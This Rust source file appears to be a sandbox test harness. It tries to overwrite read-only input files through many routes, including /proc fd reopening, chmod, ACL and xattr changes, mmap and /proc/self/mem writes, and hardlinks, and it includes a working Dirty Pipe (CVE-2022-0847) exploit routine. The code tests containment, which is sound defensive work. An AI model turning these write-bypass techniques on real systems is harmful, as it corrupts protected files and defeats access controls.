//! Attacks 1 to 5: inputs are to be read only.
//!
//! Whatever can be opened is overwritten, so that a hole shows in the bytes.

use std::fs::File;
use std::os::fd::{AsFd, AsRawFd, BorrowedFd, OwnedFd};
use std::path::Path;

use nix::errno::Errno;
use nix::fcntl::{AT_FDCWD, AtFlags, FallocateFlags, OFlag, fallocate, open};
use nix::sys::mman::{MapFlags, MsFlags, ProtFlags, mmap, mprotect, msync, munmap};
use nix::sys::stat::{FchmodatFlags, Mode, UtimensatFlags, fchmod, fchmodat, futimens, utimensat};
use nix::sys::time::TimeSpec;
use nix::sys::uio::pwrite;
use nix::unistd::{Gid, Uid, fchown, fchownat, ftruncate, linkat, truncate};

use crate::report::{attempt, check, errno};

const SPOILED: &[u8] = b"spoiled!";
const ALL: Mode = Mode::from_bits_truncate(0o777);

fn reopened(file: &impl AsRawFd) -> String {
    format!("/proc/self/fd/{}", file.as_raw_fd())
}

fn spoil(file: &OwnedFd) {
    let _ = pwrite(file, SPOILED, 0);
}

/// Attack 1: opens for writing, by name and by descriptors that were opened for
/// something else.
pub fn open_for_writing(files: &[&str]) {
    for file in files {
        for (how, flags) in [
            ("O_WRONLY", OFlag::O_WRONLY),
            ("O_RDWR", OFlag::O_RDWR),
            ("O_APPEND", OFlag::O_WRONLY | OFlag::O_APPEND),
            ("O_TRUNC", OFlag::O_WRONLY | OFlag::O_TRUNC),
            ("O_CREAT", OFlag::O_WRONLY | OFlag::O_CREAT),
        ] {
            let opened = attempt(&format!("{how} {file}"), open(*file, flags, ALL));
            opened.as_ref().map(spoil);
        }
        for (how, flags) in [("O_RDONLY", OFlag::O_RDONLY), ("O_PATH", OFlag::O_PATH)] {
            let Ok(first) = open(*file, flags, Mode::empty()) else {
                continue;
            };
            let again = open(reopened(&first).as_str(), OFlag::O_RDWR, Mode::empty());
            let again = attempt(&format!("reopen {how} {file}"), again);
            again.as_ref().map(spoil);
        }
    }
}

/// Attack 2: changes the mode, then writes.
pub fn change_mode(files: &[&str]) {
    for file in files {
        let follow = FchmodatFlags::FollowSymlink;
        let by_name = fchmodat(AT_FDCWD, *file, ALL, follow);
        attempt(&format!("chmod {file}"), by_name);
        if let Ok(opened) = open(*file, OFlag::O_RDONLY, Mode::empty()) {
            attempt(&format!("fchmod {file}"), fchmod(&opened, ALL));
        }
        if let Ok(path) = open(*file, OFlag::O_PATH, Mode::empty()) {
            let name = reopened(&path);
            let by_path = fchmodat(AT_FDCWD, name.as_str(), ALL, follow);
            attempt(&format!("chmod O_PATH {file}"), by_path);
            attempt(&format!("fchmodat2 {file}"), fchmodat2(path.as_fd()));
        }
        let opened = open(*file, OFlag::O_RDWR, Mode::empty());
        attempt(&format!("write {file}"), opened)
            .as_ref()
            .map(spoil);
    }
}

fn fchmodat2(file: BorrowedFd) -> Result<(), Errno> {
    const FCHMODAT2: libc::c_long = 452;
    // SAFETY: the call reads one empty string and a descriptor that is open.
    check(unsafe {
        libc::syscall(
            FCHMODAT2,
            file.as_raw_fd(),
            c"".as_ptr(),
            0o777,
            libc::AT_EMPTY_PATH,
        )
    })
    .map(drop)
}

/// Attack 3: owner, times, extended attributes, access control list, flags.
pub fn change_metadata(files: &[&str]) {
    for file in files {
        let (uid, gid) = (Some(Uid::current()), Some(Gid::current()));
        let chown = fchownat(AT_FDCWD, *file, uid, gid, AtFlags::AT_SYMLINK_NOFOLLOW);
        attempt(&format!("chown {file}"), chown);
        let then = TimeSpec::new(1_000_000_000, 0);
        let follow = UtimensatFlags::FollowSymlink;
        let times = utimensat(AT_FDCWD, *file, &then, &then, follow);
        attempt(&format!("utimensat {file}"), times);
        attempt(&format!("touch {file}"), touch(file));
        let Ok(opened) = File::open(file) else {
            continue;
        };
        attempt(&format!("fchown {file}"), fchown(&opened, uid, gid));
        attempt(&format!("futimens {file}"), futimens(&opened, &then, &then));
        for (how, name, value) in [
            ("setxattr", "user.hayloft", b"spoiled".as_slice()),
            ("acl", "system.posix_acl_access", ACCESS_FOR_ALL),
        ] {
            let set = xattr::set(file, name, value).map_err(|error| errno(&error));
            attempt(&format!("{how} {file}"), set);
            let set = xattr::FileExt::set_xattr(&opened, name, value);
            attempt(
                &format!("f{how} {file}"),
                set.map_err(|error| errno(&error)),
            );
        }
        attempt(&format!("flags {file}"), set_flags(opened.as_fd()));
    }
}

/// To the present moment: this asks for write permission where an explicit time
/// asks for ownership.
fn touch(file: &str) -> Result<(), Errno> {
    let now = TimeSpec::UTIME_NOW;
    utimensat(AT_FDCWD, file, &now, &now, UtimensatFlags::FollowSymlink)
}

/// An access control list (acl(5), version 2) under which everybody may write:
/// owner, group and others rwx, each entry tag, permissions and unused id.
const ACCESS_FOR_ALL: &[u8] = &[
    2, 0, 0, 0, //
    0x01, 0, 7, 0, 0xff, 0xff, 0xff, 0xff, //
    0x04, 0, 7, 0, 0xff, 0xff, 0xff, 0xff, //
    0x20, 0, 7, 0, 0xff, 0xff, 0xff, 0xff,
];

/// Sets the flag that keeps dump(8) away: any owner may.
fn set_flags(file: BorrowedFd) -> Result<(), Errno> {
    const NODUMP: libc::c_long = 0x40;
    let mut flags: libc::c_long = 0;
    // SAFETY: both calls read or write one long that outlives them.
    unsafe {
        let get = libc::ioctl(file.as_raw_fd(), libc::FS_IOC_GETFLAGS, &raw mut flags);
        check(get.into())?;
        flags |= NODUMP;
        let set = libc::ioctl(file.as_raw_fd(), libc::FS_IOC_SETFLAGS, &raw const flags);
        check(set.into()).map(drop)
    }
}

/// Attack 4: changes bytes and size by other calls than write, on the file as it
/// is and once more after an attempt at its mode.
pub fn write_otherwise(files: &[&str]) {
    for file in files {
        if let Ok(opened) = open(*file, OFlag::O_RDONLY, Mode::empty()) {
            write_by_descriptor(&format!("read-only {file}"), &opened);
            attempt(&format!("mprotect {file}"), map_then_protect(&opened));
            attempt(&format!("/proc/self/mem {file}"), write_memory(&opened));
            attempt(&format!("pipe {file}"), write_by_pipe(&opened));
        }
        let _ = fchmodat(AT_FDCWD, *file, ALL, FchmodatFlags::FollowSymlink);
        if let Some(opened) = attempt(
            &format!("open {file}"),
            open(*file, OFlag::O_RDWR, Mode::empty()),
        ) {
            write_by_descriptor(&format!("read-write {file}"), &opened);
        }
        attempt(&format!("truncate {file}"), truncate(*file, 3));
    }
}

fn write_by_descriptor(name: &str, file: &OwnedFd) {
    attempt(&format!("mmap {name}"), map_and_write(file));
    let punch = FallocateFlags::FALLOC_FL_PUNCH_HOLE | FallocateFlags::FALLOC_FL_KEEP_SIZE;
    attempt(&format!("punch {name}"), fallocate(file, punch, 0, 4));
    let extend = fallocate(file, FallocateFlags::empty(), 0, 1 << 20);
    attempt(&format!("fallocate {name}"), extend);
    attempt(&format!("ftruncate {name}"), ftruncate(file, 5));
}

const PAGE: std::num::NonZeroUsize = std::num::NonZeroUsize::new(4096).unwrap();

fn map_and_write(file: &OwnedFd) -> Result<(), Errno> {
    let access = ProtFlags::PROT_READ | ProtFlags::PROT_WRITE;
    // SAFETY: the kernel chooses the place, nothing else uses the mapping, and the
    // file has at least one byte on the page that is written.
    unsafe {
        let page = mmap(None, PAGE, access, MapFlags::MAP_SHARED, file, 0)?;
        page.cast::<u8>().write(b'!');
        msync(page, PAGE.get(), MsFlags::MS_SYNC)?;
        munmap(page, PAGE.get())
    }
}

fn map_then_protect(file: &OwnedFd) -> Result<(), Errno> {
    let access = ProtFlags::PROT_READ | ProtFlags::PROT_WRITE;
    // SAFETY: as above; the page is written only once it may be.
    unsafe {
        let page = mmap(
            None,
            PAGE,
            ProtFlags::PROT_READ,
            MapFlags::MAP_SHARED,
            file,
            0,
        )?;
        let result = mprotect(page, PAGE.get(), access);
        if result.is_ok() {
            page.cast::<u8>().write(b'!');
            msync(page, PAGE.get(), MsFlags::MS_SYNC)?;
        }
        munmap(page, PAGE.get())?;
        result
    }
}

/// Writes to a shared mapping that may only be read through the file that
/// overrides page protections.
fn write_memory(file: &OwnedFd) -> Result<(), Errno> {
    let memory = open("/proc/self/mem", OFlag::O_RDWR, Mode::empty())?;
    // SAFETY: the kernel chooses the place; the page is only written through the
    // descriptor, which the kernel checks.
    unsafe {
        let page = mmap(
            None,
            PAGE,
            ProtFlags::PROT_READ,
            MapFlags::MAP_SHARED,
            file,
            0,
        )?;
        let place = libc::off_t::try_from(page.addr().get()).map_err(|_| Errno::EOVERFLOW)?;
        let result = pwrite(&memory, SPOILED, place).map(drop);
        munmap(page, PAGE.get())?;
        result
    }
}

/// Attack 5: gets an input into the output folder by link and by rename, then
/// writes to it there.
pub fn link_out(folder: &str, files: &[&str]) {
    for file in files {
        let base = Path::new(file).file_name().unwrap_or_default();
        let place = |how: &str| format!("{folder}/{how}-{}", base.to_string_lossy());
        let linked = place("linked");
        let link = linkat(AT_FDCWD, *file, AT_FDCWD, linked.as_str(), AtFlags::empty());
        if attempt(&format!("link {file}"), link).is_some() {
            spoil_there("link", file, &linked);
        }
        if let Ok(opened) = open(*file, OFlag::O_RDONLY, Mode::empty()) {
            let linked = place("by-proc");
            let (from, follow) = (reopened(&opened), AtFlags::AT_SYMLINK_FOLLOW);
            let link = linkat(AT_FDCWD, from.as_str(), AT_FDCWD, linked.as_str(), follow);
            if attempt(&format!("link by /proc {file}"), link).is_some() {
                spoil_there("link by /proc", file, &linked);
            }
            let linked = place("by-fd");
            let link = linkat(
                &opened,
                "",
                AT_FDCWD,
                linked.as_str(),
                AtFlags::AT_EMPTY_PATH,
            );
            if attempt(&format!("link by fd {file}"), link).is_some() {
                spoil_there("link by fd", file, &linked);
            }
        }
        // Within the action's own tree a file may move; it stays what it is.
        let moved = place("moved");
        let rename = std::fs::rename(file, &moved).map_err(|error| errno(&error));
        if attempt(&format!("rename {file}"), rename).is_some() {
            spoil_there("rename", file, &moved);
        }
    }
}

fn spoil_there(how: &str, file: &str, place: &str) {
    let chmod = fchmodat(AT_FDCWD, place, ALL, FchmodatFlags::FollowSymlink);
    attempt(&format!("chmod after {how} {file}"), chmod);
    let opened = open(place, OFlag::O_RDWR, Mode::empty());
    if let Some(opened) = attempt(&format!("write after {how} {file}"), opened) {
        spoil(&opened);
    }
    attempt(&format!("truncate after {how} {file}"), truncate(place, 3));
}

/// CVE-2022-0847: a pipe's buffer that once was merged into keeps saying so when it
/// holds a page of a file, and what is written to the pipe lands in that page. The
/// file's bytes tell whether it did.
fn write_by_pipe(file: &OwnedFd) -> Result<(), Errno> {
    use nix::fcntl::{SpliceFFlags, splice};
    use nix::unistd::{pipe, read, write};
    let mut before = [0; 9];
    nix::sys::uio::pread(file, &mut before, 0)?;
    let (reader, writer) = pipe()?;
    let size = call_size(&writer)?;
    let mut page = vec![0_u8; 4096];
    for _ in 0..size / page.len() {
        write(&writer, &page)?;
    }
    for _ in 0..size / page.len() {
        read(&reader, &mut page)?;
    }
    let mut offset = 0;
    splice(
        file,
        Some(&mut offset),
        &writer,
        None,
        1,
        SpliceFFlags::empty(),
    )?;
    write(&writer, SPOILED)?;
    let mut after = [0; 9];
    nix::sys::uio::pread(file, &mut after, 0)?;
    if before == after {
        Err(Errno::EPERM)
    } else {
        Ok(())
    }
}

fn call_size(pipe: &OwnedFd) -> Result<usize, Errno> {
    let size = nix::fcntl::fcntl(pipe, nix::fcntl::FcntlArg::F_GETPIPE_SZ)?;
    usize::try_from(size).map_err(|_| Errno::EINVAL)
}
